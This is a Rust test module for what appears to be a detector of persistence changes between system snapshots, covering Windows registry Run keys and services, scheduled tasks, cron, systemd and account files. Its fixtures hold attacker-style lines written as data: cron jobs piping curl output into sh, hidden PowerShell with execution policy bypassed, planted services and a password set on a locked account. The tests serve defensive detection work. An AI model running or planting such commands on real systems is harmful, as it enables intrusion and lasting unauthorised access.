        use crate::registry::{REG_DWORD, REG_EXPAND_SZ, REG_SZ};
        let k = |name: &str, values: Vec<(String, u32, Vec<u8>)>, subkeys: Vec<Key>| Key {
            name: name.into(),
            values,
            subkeys,
        };
        let software = |run: Vec<(String, u32, Vec<u8>)>| {
            write(&k(
                "ROOT",
                vec![],
                vec![k(
                    "Microsoft",
                    vec![],
                    vec![k(
                        "Windows",
                        vec![],
                        vec![k("CurrentVersion", vec![], vec![k("Run", run, vec![])])],
                    )],
                )],
            ))
        };
        let onedrive = (
            "OneDrive".to_string(),
            REG_SZ,
            sz(r"C:\Program Files\OneDrive.exe"),
        );
        let old = software(vec![onedrive.clone()]);
        let new = software(vec![
            onedrive.clone(),
            ("svc".into(), REG_SZ, sz(r"C:\Users\Public\svc.exe")),
        ]);
        let found = registry_changes(Hive::Software, Some(&old), &new);
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].0, "windows_run");
        assert!(
            found[0].1.contains(r"svc = C:\Users\Public\svc.exe"),
            "{}",
            found[0].1
        );
        assert!(registry_changes(Hive::Software, Some(&old), &old).is_empty());

        let system = |extra: Option<Key>| {
            let mut services = vec![k(
                "Dnscache",
                vec![
                    (
                        "ImagePath".into(),
                        REG_EXPAND_SZ,
                        sz(r"%SystemRoot%\system32\svchost.exe"),
                    ),
                    ("Start".into(), REG_DWORD, 2u32.to_le_bytes().to_vec()),
                ],
                vec![],
            )];
            services.extend(extra);
            write(&k(
                "ROOT",
                vec![],
                vec![k(
                    "ControlSet001",
                    vec![],
                    vec![k("Services", vec![], services)],
                )],
            ))
        };
        let evil = k(
            "Updater",
            vec![
                (
                    "ImagePath".into(),
                    REG_EXPAND_SZ,
                    sz(r"C:\ProgramData\u.exe"),
                ),
                ("Start".into(), REG_DWORD, 2u32.to_le_bytes().to_vec()),
            ],
            vec![],
        );
        let found = registry_changes(Hive::System, Some(&system(None)), &system(Some(evil)));
        assert_eq!(found.len(), 1, "{found:?}");
        assert_eq!(found[0].0, "windows_service");
        assert!(
            found[0].1.contains(
                r"new service updater started automatically (start 2): C:\ProgramData\u.exe"
            ),
            "{}",
            found[0].1
        );
        // A damaged hive is reported, not trusted.
        let found = registry_changes(Hive::System, Some(&system(None)), b"garbage");
        assert_eq!(found[0].0, "windows_registry");
        assert_eq!(hive_kind("Users/alice/NTUSER.DAT"), Some(Hive::User));
        assert_eq!(
            hive_kind("Windows/System32/config/SOFTWARE"),
            Some(Hive::Software)
        );
        assert_eq!(hive_kind("Users/alice/Documents/NTUSER.DAT"), None);
    }

    /// Windows boots from the control set `Select\Current` names, not
    /// always 001: a service added there is found, and so is a disabled
    /// one turned on.
    #[test]
    fn services_of_the_control_set_in_use_and_ones_turned_on_are_reported() {
        use crate::registry::testhive::{Key, sz, write};
        use crate::registry::{REG_DWORD, REG_EXPAND_SZ};
        let k = |name: &str, values: Vec<(String, u32, Vec<u8>)>, subkeys: Vec<Key>| Key {
            name: name.into(),
            values,
            subkeys,
        };
        let dword = |n: u32| n.to_le_bytes().to_vec();
        let service = |name: &str, image: &str, start: u32| {
            k(
                name,
                vec![
                    ("ImagePath".into(), REG_EXPAND_SZ, sz(image)),
                    ("Start".into(), REG_DWORD, dword(start)),
                ],
                vec![],
            )
        };
        let system = |remote_start: u32, evil: bool| {
            let mut services = vec![service(
                "RemoteRegistry",
                r"%SystemRoot%\system32\svchost.exe -k localService",
                remote_start,
            )];
            if evil {
                services.push(service("EvilSvc", r"C:\ProgramData\evil.exe", 2));
            }
            write(&k(
                "ROOT",
                vec![],
                vec![
                    k(
                        "Select",
                        vec![("Current".into(), REG_DWORD, dword(3))],
                        vec![],
                    ),
                    k(
                        "ControlSet003",
                        vec![],
                        vec![k("Services", vec![], services)],
                    ),
                ],
            ))
        };
        let found = registry_changes(Hive::System, Some(&system(4, false)), &system(2, true));
        let text: Vec<&str> = found.iter().map(|(_, d, _)| d.as_str()).collect();
        assert_eq!(found.len(), 2, "{text:?}");
        assert!(
            text.iter().any(|t| t.contains("new service evilsvc")),
            "{text:?}"
        );
        assert!(
            text.iter()
                .any(|t| t.contains("remoteregistry now starts automatically (start 2, was 4)")),
            "{text:?}"
        );
    }

    #[test]
    fn utf16_text_is_read_as_text() {
        let xml =
            "<Task>\r\n  <Exec><Command>C:\\Users\\Public\\svc.exe</Command></Exec>\r\n</Task>\r\n";
        let mut le = vec![0xff, 0xfe];
        le.extend(xml.encode_utf16().flat_map(|u| u.to_le_bytes()));
        let mut be = vec![0xfe, 0xff];
        be.extend(xml.encode_utf16().flat_map(|u| u.to_be_bytes()));
        for data in [le, be, xml.as_bytes().to_vec()] {
            assert_eq!(
                added_lines(Some(b"<Task>\n</Task>\n"), &data),
                ["<Exec><Command>C:\\Users\\Public\\svc.exe</Command></Exec>"]
            );
        }
    }

    #[test]
    fn the_program_a_command_starts_is_found() {
        for (command, want) in [
            (
                r#""C:\Users\Public\svchost.exe" -k run"#,
                Some("/Users/Public/svchost.exe"),
            ),
            (
                r"c:\Program Files\Tool\t.exe /s",
                Some("/Program Files/Tool/t.exe"),
            ),
            (r"%ProgramData%\u.exe", Some("/ProgramData/u.exe")),
            (
                r"%SystemRoot%\system32\svchost.exe -k netsvcs",
                Some("/Windows/system32/svchost.exe"),
            ),
            (
                "*/5 * * * * root /usr/local/bin/.upd --quiet",
                Some("/usr/local/bin/.upd"),
            ),
            ("ExecStart=/tmp/.dbus-helper", Some("/tmp/.dbus-helper")),
            ("@reboot root sh -c '/var/tmp/x &'", Some("/var/tmp/x")),
            // (The first absolute path, an argument here: a rollback only
            // leaves out a file new since the clean point.)
            (
                "17 * * * * root cd / && run-parts --report /etc/cron.hourly",
                Some("/etc/cron.hourly"),
            ),
            ("%APPDATA%\\x.exe", None),
            ("run-parts", None),
        ] {
            assert_eq!(
                started_files(command).first().map(String::as_str),
                want,
                "{command}"
            );
        }
    }

    /// Crafted command lines: megabytes on one line, separators of
    /// several bytes, names in any script. Bounded, and no panic.
    #[test]
    fn crafted_command_lines_are_read_within_bounds() {
        let long = "C:\\a.exe ".repeat(200_000);
        assert!(started_files(&long).len() <= MAX_STARTED);
        let words = "a ".repeat(500_000);
        assert!(started_files(&words).is_empty());
        assert_eq!(
            started_files("é\u{3000}/bin/sh\u{a0}/tmp/ü.sh\u{3000}x"),
            vec!["/tmp/ü.sh"]
        );
        for c in [
            "C:\\",
            "%windir%",
            "\"C:\\é",
            "a:\\",
            "/",
            "//",
            "ü:\\x.exe",
        ] {
            let _ = started_files(c);
        }
    }

    /// What an interpreter or launcher is given is what runs: the script,
    /// the library, not the system's shell or PowerShell.
    #[test]
    fn the_files_a_launcher_is_given_are_what_a_command_runs() {
        for (command, want) in [
            (
                "@reboot root /bin/sh /var/tmp/run.sh",
                vec!["/var/tmp/run.sh"],
            ),
            (
                "ExecStart=/usr/bin/python3.11 /opt/.cache/m.py --daemon >/dev/null",
                vec!["/opt/.cache/m.py"],
            ),
            (
                "* * * * * root /usr/bin/env python3 /home/u/.x.py",
                vec!["/home/u/.x.py"],
            ),
            (
                r#""C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe" -w hidden -File "C:\Users\Public\a b.ps1""#,
                vec!["/Users/Public/a b.ps1"],
            ),
            (
                r"powershell -ExecutionPolicy Bypass -File C:\ProgramData\u.ps1",
                vec!["/ProgramData/u.ps1"],
            ),
            (
                r"rundll32.exe C:\Users\Public\e.dll,Start",
                vec!["/Users/Public/e.dll"],
            ),
            // (Switches of Windows programs are not Unix paths.)
            (r"cmd /c %ProgramData%\x.bat /q", vec!["/ProgramData/x.bat"]),
            (
                r"wscript.exe //B %Public%\s.vbs",
                vec!["/Users/Public/s.vbs"],
            ),
            // A program's own arguments are not run by it.
            (
                "*/5 * * * * root /usr/local/bin/.upd --conf /etc/upd.conf",
                vec!["/usr/local/bin/.upd"],
            ),
            ("* * * * * root /bin/sh -c 'curl http://x/y | sh'", vec![]),
            // A scheduled task's action, as its XML holds it.
            (
                r"<Exec><Command>powershell.exe</Command><Arguments>-File C:\ProgramData\t.ps1</Arguments></Exec>",
                vec!["/ProgramData/t.ps1"],
            ),
            (
                r"<Exec><Command>C:\ProgramData\upd\run.exe</Command></Exec>",
                vec!["/ProgramData/upd/run.exe"],
            ),
            // A launcher's first operand is what runs; what that is given
            // in turn is its data.
            (
                "ExecStart=/usr/bin/python3 /opt/app/main.py --db /var/lib/app/app.db",
                vec!["/opt/app/main.py"],
            ),
            // A planted "python3" is no system interpreter.
            (
                "* * * * * root /var/tmp/python3 -q",
                vec!["/var/tmp/python3"],
            ),
            (
                r"C:\Users\Public\cmd.exe /c x",
                vec!["/Users/Public/cmd.exe"],
            ),
            // A Windows name elsewhere on the line hides no Unix program.
            (
                "@reboot root /var/tmp/.x/run x.exe",
                vec!["/var/tmp/.x/run"],
            ),
            // Files that cannot run are not what a Windows command runs.
            (r"rundll32 C:\Windows\System32\config\SOFTWARE,x", vec![]),
            // An argument of a Unix program is not a drive path.
            ("/usr/local/bin/t --u=a:/b", vec!["/usr/local/bin/t"]),
            (r"C:\x\update.json.exe", vec!["/x/update.json.exe"]),
        ] {
            assert_eq!(started_files(command), want, "{command}");
        }
    }

    #[test]
    fn places_are_recognised() {
        assert_eq!(place("etc/cron.d/backup"), Some("cron"));
        assert_eq!(place("var/spool/cron/crontabs/root"), Some("cron"));
        assert_eq!(place("etc/systemd/system/evil.service"), Some("systemd"));
        assert_eq!(
            place("home/ann/.ssh/authorized_keys"),
            Some("authorized_keys")
        );
        assert_eq!(place("home/ann/.bashrc"), Some("shell_profile"));
        assert_eq!(place("home/ann/docs/.bashrc"), None);
        assert_eq!(
            place("ProgramData/Microsoft/Windows/Start Menu/Programs/StartUp/x.lnk"),
            Some("windows_startup")
        );
        assert_eq!(place("etc/hostname"), None);
    }

    #[test]
    fn added_lines_ignore_comments_and_order() {
        let old = b"# m h\n0 1 * * * root /usr/bin/backup\n";
        let new = b"# m h\n* * * * * root curl x|sh\n0 1 * * * root /usr/bin/backup\n\n";
        assert_eq!(
            added_lines(Some(old), new),
            vec!["* * * * * root curl x|sh"]
        );
        assert!(added_lines(Some(new), old).is_empty());
    }

    #[test]
    fn passwords_set_only_for_locked_accounts() {
        let old = b"root:$6$abc:1::::::\ndaemon:*:1::::::\nann:!:1::::::\n";
        let new = b"root:$6$xyz:1::::::\ndaemon:$6$evil:1::::::\nann:!:1::::::\n";
        assert_eq!(passwords_set(Some(old), new), vec!["daemon"]);
    }
}
